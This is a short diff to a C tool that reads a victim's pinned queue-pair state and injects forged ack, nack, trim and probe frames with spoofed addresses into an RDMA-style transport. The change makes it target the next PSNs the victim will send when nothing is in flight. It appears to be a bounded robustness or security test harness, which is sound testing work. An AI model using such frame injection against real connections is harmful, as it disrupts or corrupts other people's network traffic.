@@ -22,7 +22,8 @@
  *          --dev IF --dmac MAC --src IP --dst IP [--seconds S] [--max N]
  *
  * MAP is the victim's pinned mrc_qp_tx (ack, nack, trim, probe) or mrc_qp
- * (data).
+ * (data). With nothing in flight as read, ack, nack and trim name the next
+ * 16 PSNs to be sent instead.
  * Prints {"frames": N} on exit. Bounded by --seconds (default 5) and --max
  * frames (default 10^7).
  */
@@ -269,8 +270,14 @@ int main(int argc, char **argv)
 		if (psns(fd, &o, &lo_psn, &hi_psn))
 			return die("reading the victim's QP");
 		if (lo_psn == hi_psn) {
-			usleep(100); /* nothing in flight */
-			continue;
+			/*
+			 * Nothing in flight as read: the victim's transmit
+			 * call may take its ACKs within the call itself (its
+			 * peer is on the same CPU), so what is in flight
+			 * lasts microseconds. Name the next PSNs it will
+			 * send: in flight, perhaps, when the frame arrives.
+			 */
+			hi_psn = (lo_psn + 16) & MRC_BTH_PSN_MASK;
 		}
 		for (k = 0; k < 64; k++) {
 			uint32_t span = (hi_psn - lo_psn) & MRC_BTH_PSN_MASK;
